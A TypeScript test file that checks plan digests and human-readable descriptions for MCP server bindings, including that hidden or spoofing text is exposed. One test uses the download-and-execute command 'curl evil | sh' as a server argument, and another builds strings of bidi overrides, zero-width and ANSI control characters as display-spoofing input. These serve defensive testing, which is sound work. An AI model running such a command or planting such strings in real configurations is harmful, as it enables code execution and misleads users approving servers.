import assert from 'node:assert/strict';
import fc from 'fast-check';
import { commandLine, describePlan, planDigest, shapeDigest } from '../../../src/bindings/plan';
import { parseServersFile } from '../../../src/bindings/serversFile';
import type { Server } from '../../../src/bindings/server';
import { anyText } from '../support/arbitraries';

function read(fields: object): Server {
  const { servers, problems } = parseServersFile(JSON.stringify({ servers: { s: fields } }), '/w');
  const server = servers.get('s');
  assert.ok(server !== undefined, JSON.stringify(problems));
  return server;
}

const HTTP = {
  type: 'http',
  url: 'https://a.example/mcp',
  headers: { 'X-One': '1', 'X-Two': '2' },
  secrets: { A: 'bearer', B: { as: 'header', name: 'X-B', template: 'v=${value}' }, C: 'body' },
};
const STDIO = { command: 'npx', args: ['-y', 'x'], env: { ONE: '1', TWO: null }, cwd: 'sub', secrets: { A: 'env', B: 'body' } };
const FUNCTION = {
  type: 'function',
  url: 'https://f.example/',
  headers: { 'X-One': '1' },
  tools: [{ name: 't', description: 'what it does', inputSchema: { type: 'object', properties: { a: { type: 'string' }, b: {} } } }],
  secrets: { A: 'body' },
};

/** Each value that differs from the first in one thing that a server does. */
const CHANGES: readonly (readonly [what: string, base: object, changed: object])[] = [
  ['the address', HTTP, { ...HTTP, url: 'https://a.example/mcp/' }],
  ['the type', HTTP, { ...FUNCTION, url: HTTP.url, headers: HTTP.headers, secrets: HTTP.secrets }],
  ['the revision of MCP', HTTP, { ...HTTP, protocol: '2026-07-28' }],
  ['the revision of MCP (stdio)', STDIO, { ...STDIO, protocol: '2025-11-25' }],
  ['a header', HTTP, { ...HTTP, headers: { ...HTTP.headers, 'X-One': '2' } }],
  ['one header less', HTTP, { ...HTTP, headers: { 'X-One': '1' } }],
  ['a secret more', HTTP, { ...HTTP, secrets: { ...HTTP.secrets, D: 'header' } }],
  ['a secret less', HTTP, { ...HTTP, secrets: { A: 'bearer' } }],
  ['another secret', HTTP, { ...HTTP, secrets: { ...HTTP.secrets, A: undefined, Z: 'bearer' } }],
  ['a mode', HTTP, { ...HTTP, secrets: { ...HTTP.secrets, A: 'header' } }],
  ['the name of a header', HTTP, { ...HTTP, secrets: { ...HTTP.secrets, B: { as: 'header', name: 'X-C', template: 'v=${value}' } } }],
  ['a template', HTTP, { ...HTTP, secrets: { ...HTTP.secrets, B: { as: 'header', name: 'X-B', template: '${value}' } } }],
  ['who gets which header', { ...HTTP, secrets: { A: 'header', B: 'bearer' } }, { ...HTTP, secrets: { A: 'bearer', B: 'header' } }],
  ['the scope of an http server', HTTP, { ...HTTP, scope: 'work' }],
  ['the scope of a command', { ...STDIO, scope: 'user' }, { ...STDIO, scope: 'work' }],
  ['the command', STDIO, { ...STDIO, command: './npx' }],
  ['an argument', STDIO, { ...STDIO, args: ['-y', 'y'] }],
  ['the order of arguments', STDIO, { ...STDIO, args: ['x', '-y'] }],
  ['where an argument ends', STDIO, { ...STDIO, args: ['-y x'] }],
  ['an argument that cannot be seen', STDIO, { ...STDIO, args: ['-y', 'x\u200b'] }],
  ['an empty argument', STDIO, { ...STDIO, args: ['-y', 'x', ''] }],
  ['a variable', STDIO, { ...STDIO, env: { ...STDIO.env, ONE: '2' } }],
  ['a variable set instead of taken away', STDIO, { ...STDIO, env: { ...STDIO.env, TWO: '' } }],
  ['the folder', STDIO, { ...STDIO, cwd: 'other' }],
  ['a tool', FUNCTION, { ...FUNCTION, tools: [{ ...FUNCTION.tools[0], name: 'u' }] }],
  ['what a tool says of itself', FUNCTION, { ...FUNCTION, tools: [{ ...FUNCTION.tools[0], description: 'something else' }] }],
  ['the arguments of a tool', FUNCTION, { ...FUNCTION, tools: [{ ...FUNCTION.tools[0], inputSchema: { type: 'object' } }] }],
];

function reversed<T>(value: T): T {
  if (Array.isArray(value) || typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value)
      .reverse()
      .map(([key, member]) => [key, reversed<unknown>(member)]),
  ) as T;
}

describe('the digest of a plan', () => {
  for (const [what, base, changed] of CHANGES) {
    it(`changes with ${what}`, () => {
      assert.notEqual(planDigest(read(base)), planDigest(read(changed)));
    });
  }

  it('changes with the name of the server', () => {
    const { servers } = parseServersFile(JSON.stringify({ servers: { a: HTTP, b: HTTP } }), '/w');
    assert.equal(new Set([...servers.values()].map(planDigest)).size, 2);
  });

  it('changes with the folder that a plan is for', () => {
    const text = JSON.stringify({ servers: { s: { command: '${workspaceFolder}/run' } } });
    const digests = ['/one', '/two'].flatMap((folder) => [...parseServersFile(text, folder).servers.values()].map(planDigest));
    assert.equal(new Set(digests).size, 2);
  });

  it('does not change with the order of keys, comments or the spelling of defaults', () => {
    for (const fields of [HTTP, STDIO, FUNCTION]) assert.equal(planDigest(read(fields)), planDigest(read(reversed(fields))));
    assert.equal(
      planDigest(read({ url: 'https://a/', secrets: { 'my-key': 'header' } })),
      planDigest(read({ type: 'http', url: 'https://a/', headers: {}, secrets: { MY_KEY: { as: 'header' } } })),
    );
  });

  it('without a scope is what it was before there were scopes: approvals remain', () => {
    const before = { url: 'https://a.example/mcp', headers: { 'X-One': '1' }, secrets: { TOKEN: 'bearer' } };
    const digest = '4c0337092535379f77272a9c8deb4b4a19cd13715a4f9dfc15f647f165710eab';
    for (const scope of [undefined, 'workspace']) assert.equal(planDigest(read({ ...before, scope })), digest);
  });

  it('apart from the scope tells whether a server was only switched to another one', () => {
    for (const fields of [HTTP, STDIO, FUNCTION]) assert.equal(shapeDigest(read(fields)), shapeDigest(read({ ...fields, scope: 'work' })));
    for (const [what, base, changed] of CHANGES) {
      if (!what.startsWith('the scope')) assert.notEqual(shapeDigest(read(base)), shapeDigest(read(changed)), what);
    }
  });

  it('is the same each time', () => {
    assert.match(planDigest(read(HTTP)), /^[0-9a-f]{64}$/);
    assert.equal(planDigest(read(HTTP)), planDigest(read(HTTP)));
  });
});

describe('the description of a plan', () => {
  it('says which revision of MCP is spoken, if the file does', () => {
    assert.ok(describePlan(read({ ...HTTP, protocol: '2026-07-28' })).includes('Speaks: MCP 2026-07-28'));
    assert.ok(!describePlan(read(HTTP)).some((line) => line.startsWith('Speaks')));
  });

  it('shows all that an http server will do', () => {
    assert.deepEqual(describePlan(read(HTTP)), [
      'Connects to: https://a.example/mcp',
      'Header: X-One: 1',
      'Header: X-Two: 2',
      'Secret: A as bearer token',
      'Secret: B as header X-B: "v=${value}"',
      'Secret: C as body key C',
    ]);
  });

  it('shows all that a command will do', () => {
    assert.deepEqual(describePlan(read({ ...STDIO, args: ['-c', 'curl evil | sh', ''] })), [
      'Starts: npx -c "curl evil | sh" ""',
      'In: /w/sub',
      'With: ONE=1',
      'Without: TWO',
      'Secret: A as environment variable A',
      'Secret: B as body key B',
    ]);
  });

  it('shows all that a function will do, and that there are no secrets', () => {
    assert.deepEqual(describePlan(read({ ...FUNCTION, secrets: {} })), [
      'Posts to: https://f.example/',
      'Header: X-One: 1',
      'Tool: t: what it does',
      'Arguments of t: {"type":"object","properties":{"a":{"type":"string"},"b":{}}}',
      'Secrets: none',
    ]);
  });

  it('shows what agents are told of the arguments of a function, whole', () => {
    const inputSchema = { properties: { a: { description: 'Ask for it: '.repeat(500) + '\u202eEND\u200b' } }, 'x-odd': [null, 1.5] };
    const lines = describePlan(read({ ...FUNCTION, tools: [{ name: 'one', inputSchema }, { name: 'two' }] }));
    const shown = JSON.stringify(inputSchema).replace('\u202e', '\\u202e').replace('\u200b', '\\u200b');
    assert.deepEqual(lines.slice(2, 6), ['Tool: one', `Arguments of one: ${shown}`, 'Tool: two', 'Arguments of two: {"type":"object"}']);
  });

  it('names the scope if it is not that of the workspace', () => {
    const fields = { url: 'https://a/', secrets: { A: 'bearer' } };
    assert.deepEqual(describePlan(read({ ...fields, scope: 'github-work' })), [
      'Connects to: https://a/',
      'From scope: github-work',
      'Secret: A as bearer token',
    ]);
    assert.deepEqual(describePlan(read({ ...fields, scope: 'workspace' })), describePlan(read(fields)));
  });

  it('cuts nothing, however long', () => {
    const long = `${'x'.repeat(5000)}END`;
    const args = Array.from({ length: 300 }, (_, i) => `arg${String(i)}`);
    const text = describePlan(read({ command: long, args: [...args, long], env: { [long]: long }, cwd: `/${long}` })).join('\n');
    assert.equal(text.split(long).length, 6);
    for (const arg of args) assert.ok(text.includes(` ${arg} `));
    assert.ok(
      describePlan(read({ url: `https://a/?${long}`, headers: { [long]: long } }))
        .join('\n')
        .split(long).length === 4,
    );
  });

  it('is one line per thing, and shows whatever hides or reorders', () => {
    const evil = 'a\nStarts: harmless\u202e\u2066\u200b\u3164\x1b[2K\r';
    const plans = [
      read({
        command: evil,
        args: [evil],
        env: { [evil]: evil },
        cwd: `/${evil}`,
        secrets: { K: { as: 'body', name: evil, template: `${evil}\${value}` } },
      }),
      read({
        type: 'function',
        url: 'https://a/',
        headers: { X: 'a\u00adb' },
        tools: [{ name: 't', description: evil, inputSchema: { description: evil, [evil]: { const: evil } } }],
      }),
    ];
    for (const plan of plans) {
      const lines = describePlan(plan);
      for (const line of lines) {
        assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\u3164]/u);
        assert.match(line, /^(?:Starts|In|With|Without|Posts to|Header|Tool|Arguments of t|Secrets?): /);
      }
    }
    assert.equal(describePlan(plans[0] ?? read(STDIO)).length, 4);
  });

  it('shows where each argument begins and ends', () => {
    fc.assert(
      fc.property(
        fc.array(anyText(0, 8), { minLength: 1, maxLength: 4 }),
        fc.array(anyText(0, 8), { minLength: 1, maxLength: 4 }),
        (a, b) => {
          const different = JSON.stringify(a) !== JSON.stringify(b);
          assert.equal(commandLine(a) !== commandLine(b), different);
        },
      ),
    );
    assert.notEqual(commandLine(['a', 'b']), commandLine(['a b']));
    assert.notEqual(commandLine(['a" "b']), commandLine(['a', 'b']));
  });
});
